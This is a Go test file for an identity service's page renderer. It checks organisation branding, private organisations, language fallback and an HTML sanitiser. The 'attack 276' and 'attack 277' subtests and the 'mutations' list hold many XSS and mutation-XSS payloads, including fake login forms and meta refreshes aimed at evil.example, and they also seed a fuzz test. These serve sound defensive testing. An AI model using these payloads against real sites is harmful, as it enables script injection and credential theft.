package web_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/gatehouse-id/gatehouse/internal/web"
)

// withOrganisation returns a renderer for which the shop belongs to an organisation.
func withOrganisation(t *testing.T, org *web.Organisation) *web.Renderer {
	t.Helper()
	p := newRenderer(t, web.Brand{Help: "https://help.example.com/"})
	all := web.NewOrganisations(map[string]*web.Organisation{"shop": org, "second": org})
	p.SetOrganisations(func(context.Context) *web.Organisations { return all })
	return p
}

func TestOrganisationOnPages(t *testing.T) {
	t.Parallel()
	org := &web.Organisation{
		Name: "Acme <b>", SiteURL: "https://acme.example/?a=1&b", SupportURL: "https://acme.example/help", SupportEmail: "help@acme.example",
		Logo: pngOf(t, 40, 20), Message: "<p>We are <b>moving</b>.</p>",
	}
	p := withOrganisation(t, org)
	consent, signIn := render(p, views()["consent"]).Body.String(), render(p, views()["sign_in"]).Body.String()
	if want := `It belongs to Acme &lt;b&gt;. <a href="https://acme.example/?a=1&amp;b" rel="noopener noreferrer">acme.example</a>`; !strings.Contains(consent, want) {
		t.Errorf("the consent page has no %s:\n%s", want, consent)
	}
	if want := `<div class="notice info">`; !strings.Contains(signIn, want) || !strings.Contains(signIn, "<p>We are <b>moving</b>.</p>") ||
		strings.Contains(consent, "moving") {
		t.Errorf("the sign-in page has no message, or the consent page has one:\n%s", signIn)
	}
	if !strings.Contains(signIn, `href="https://acme.example/help" rel="noopener noreferrer">Help`) {
		t.Error("the footer does not lead to the help of the organisation")
	}
	m := imgOf.FindStringSubmatch(signIn)
	if m == nil || m[2] != "80" || get(p, m[1]).Code != http.StatusOK {
		t.Errorf("the sign-in page shows the picture %q, want that of the organisation", m)
	}
	other := views()["sign_in"]
	other.Client.ID = "other"
	if body := render(p, other).Body.String(); strings.Contains(body, "Acme") || strings.Contains(body, "moving") ||
		!strings.Contains(body, "help.example.com") {
		t.Errorf("the page of another client shows the organisation:\n%s", body)
	}
	if body := render(withOrganisation(t, &web.Organisation{SupportEmail: "help@acme.example"}),
		views()["sign_in"]).Body.String(); !strings.Contains(body, `href="mailto:help@acme.example"`) {
		t.Error("without a site for help the footer has no address")
	}
	t.Run("attack 276: links and logos of organisations", func(t *testing.T) {
		t.Parallel()
		for _, evil := range []string{
			"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example",
			"vbscript:x", "https://a\nb", "mailto:x@y",
		} {
			p := withOrganisation(t, &web.Organisation{
				Name: `"><script>alert(1)</script>`, SiteURL: evil,
				SupportURL: strings.TrimPrefix(evil, "mailto:x@y"), SupportEmail: `x"><script>`, Logo: []byte("<svg onload=alert(1)>"),
			})
			for _, name := range []string{"sign_in", "consent", "choose"} {
				body := render(p, views()[name]).Body.String()
				if strings.Contains(withoutOurs(body), "<script") || strings.Contains(body, `href="`+html.EscapeString(evil)) ||
					strings.Contains(body, "onload=") || strings.Contains(body, `class="logo"`) {
					t.Errorf("page %q runs what an organisation says (%q):\n%s", name, evil, body)
				}
			}
		}
	})
	t.Run("organisations that cannot be read", func(t *testing.T) {
		t.Parallel()
		p := newRenderer(t, web.Brand{})
		p.SetOrganisations(func(context.Context) *web.Organisations { panic("the store is broken") })
		if w := render(p, views()["sign_in"]); w.Code != http.StatusOK {
			t.Errorf("sign-in page = %d, want 200", w.Code)
		}
		p.SetOrganisations(func(context.Context) *web.Organisations { return nil })
		if w := render(p, views()["sign_in"]); w.Code != http.StatusOK {
			t.Errorf("sign-in page = %d, want 200", w.Code)
		}
	})
}

// TestPrivateOrganisation: pages for people who are not signed in show nothing of a private organisation.
func TestPrivateOrganisation(t *testing.T) {
	t.Parallel()
	p := withOrganisation(t, &web.Organisation{
		Name: "Acme", SiteURL: "https://acme.example/", SupportURL: "https://acme.example/help", SupportEmail: "help@acme.example",
		Logo: pngOf(t, 40, 20), Message: "<p>acme moves</p>", Private: true, Language: "nl",
	})
	for name, v := range views() {
		v.Client = shop
		body := strings.ToLower(render(p, v).Body.String())
		if shows := strings.Contains(body, "acme") || strings.Contains(body, "/assets/organisation"); shows &&
			v.Template != "consent" && v.Nav == nil {
			t.Errorf("page %q shows a private organisation:\n%s", name, body)
		}
		if !strings.Contains(body, "acme.example/help") && v.Template == "consent" && !v.Mobile {
			t.Errorf("page %q does not show the organisation to a person who is signed in:\n%s", name, body)
		}
	}
	if body := render(p, views()["sign_in"]).Body.String(); !strings.Contains(body, "help.example.com") {
		t.Errorf("the help of the brand is gone with that of a private organisation:\n%s", body)
	}
}

// TestPreferredLanguage: the language of an organisation is the default for its applications' pages if no available
// language was requested.
func TestPreferredLanguage(t *testing.T) {
	t.Parallel()
	brought := &web.Overrides{Locales: map[string]map[string]string{"fr_FR_tu": {"sign_in.title": "Salut"}}}
	for name, tt := range map[string]struct {
		preferred, header, chosen string
		asked                     []string
		want                      string
	}{
		"nobody asks":                      {preferred: "nl", want: "nl"},
		"the browser asks":                 {preferred: "nl", header: "de", want: "de"},
		"for what there is not":            {preferred: "nl", header: "sv, fi;q=0.5", want: "nl"},
		"for something near":               {preferred: "nl", header: "de-AT", want: "de"},
		"for anything":                     {preferred: "nl", header: "*", want: "nl"},
		"the application asks":             {preferred: "nl", asked: []string{"fr"}, want: "fr"},
		"the application, for what is not": {preferred: "nl", asked: []string{"sv"}, want: "nl"},
		"the person has chosen":            {preferred: "nl", chosen: "de", want: "de"},
		"a country":                        {preferred: "nl-BE", want: "nl"},
		"a variant":                        {preferred: "fr_FR_tu", want: "fr-FR"},
		"without messages":                 {preferred: "sv", want: "en"},
		"none":                             {want: "en"},
	} {
		p := withMessages(t, all, brought)
		orgs := web.NewOrganisations(map[string]*web.Organisation{"shop": {Name: "Acme", Private: true, Language: tt.preferred}})
		p.SetOrganisations(func(context.Context) *web.Organisations { return orgs })
		r := httptest.NewRequest(http.MethodGet, "https://auth.example.com/sign-in", nil)
		if tt.header != "" {
			r.Header.Set("Accept-Language", tt.header)
		}
		if tt.chosen != "" {
			for _, c := range choose(p, "/language?to="+tt.chosen+"&back=/").Cookies() {
				r.AddCookie(c)
			}
		}
		v := views()["sign_in"]
		v.Locales = tt.asked
		w := httptest.NewRecorder()
		p.Render(w, r, v)
		if got := w.Header().Get("Content-Language"); got != tt.want {
			t.Errorf("%s: the page is in %q, want %q", name, got, tt.want)
		}
		if got := p.Lang(r, tt.asked, shop.ID); got != tt.want {
			t.Errorf("%s: Lang = %q, want %q", name, got, tt.want)
		}
		v.Client.ID, w = "other", httptest.NewRecorder()
		p.Render(w, r, v)
		if got := w.Header().Get("Content-Language"); tt.header == "" && tt.chosen == "" && tt.asked == nil && got != "en" {
			t.Errorf("%s: the page of another client is in %q, want en", name, got)
		}
	}
}

func TestCleanHTML(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"plain & simple < 3", "plain &amp; simple &lt; 3"},
		{"<p>One<br>two <strong>three</strong></p>", "<p>One<br>two <strong>three</strong></p>"},
		{"<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
		{
			`<a href="https://x.example/?a=1&amp;b" target="_blank" onclick="x">x</a>`,
			`<a href="https://x.example/?a=1&amp;b" rel="noopener noreferrer">x</a>`,
		},
		{`<a href="mailto:x@x.example">x</a>`, `<a href="mailto:x@x.example" rel="noopener noreferrer">x</a>`},
		{`<h1 class="x">Big</h1><div>text</div>`, "Bigtext"},
		{"{{.}} ${7*7}", "{{.}} ${7*7}"},
	} {
		if got := web.CleanHTML(tt.in); got != tt.want {
			t.Errorf("CleanHTML(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	t.Run("attack 277: markup that mutates", func(t *testing.T) {
		t.Parallel()
		for _, evil := range mutations {
			checkClean(t, evil)
		}
	})
}

// mutations are pieces of HTML that have passed other sanitisers, or that browsers read differently from how they look.
var mutations = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example">x</a>`, `<a xlink:href="javascript:alert(1)">x</a>`,
	`<p style="background:url(x)">x</p>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<form action=https://evil.example><input name=password><button>Sign in</button></form>`,
	`<form><form action=https://evil.example>`, `<p id=problem name=csrf class=notice>x</p>`, `<base href=https://evil.example>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=https://evil.example>`, `<object data=x>`, `<embed src=x>`, `<video><source onerror=alert(1)>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
	`<select><style></select><img src=x onerror=alert(1)></style>`,
	`<b><a href="https://ok.example"><table><td><a href="https://ok.example">x`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<p title='"><img src=x onerror=alert(1)>'>`, strings.Repeat("<b>", 5000) + "x", strings.Repeat("<p><ul><li>", 300),
	"<\x00script>alert(1)</script>", "\xff<img src=x onerror=alert(1)>",
	`</main></body><script>alert(1)</script>`, `<details ontoggle=alert(1) open>`, `<marquee onstart=alert(1)>`,
	`<a href="https://ok.example" ping="https://evil.example">x</a>`,
}

// checkClean checks that the cleaned HTML is harmless and does not change when it is cleaned again.
func checkClean(t *testing.T, in string) {
	t.Helper()
	got := web.CleanHTML(in)
	if again := web.CleanHTML(got); again != got {
		t.Errorf("CleanHTML(%.80q) = %.200q, and of that %.200q", in, got, again)
	}
	doc, err := html.Parse(strings.NewReader("<!doctype html><body>" + got + "</body>"))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("CleanHTML(%.80q) = %.200q: it has a comment", in, got)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains([]string{"html", "head", "body", "a", "b", "br", "em", "i", "li", "ol", "p", "strong", "ul"}, n.Data) {
			t.Errorf("CleanHTML(%.80q) = %.200q: it has the element %s", in, got, n.Data)
		}
		for _, a := range n.Attr {
			if n.Data != "a" || (a.Key != "rel" && (a.Key != "href" || !strings.HasPrefix(a.Val, "http") && !strings.HasPrefix(a.Val, "mailto:"))) {
				t.Errorf("CleanHTML(%.80q) = %.200q: it has the attribute %s=%q", in, got, a.Key, a.Val)
			}
		}
	}
}

func FuzzCleanHTML(f *testing.F) {
	for _, evil := range mutations {
		f.Add(evil)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if len(in) < 4096 {
			checkClean(t, in)
		}
	})
}
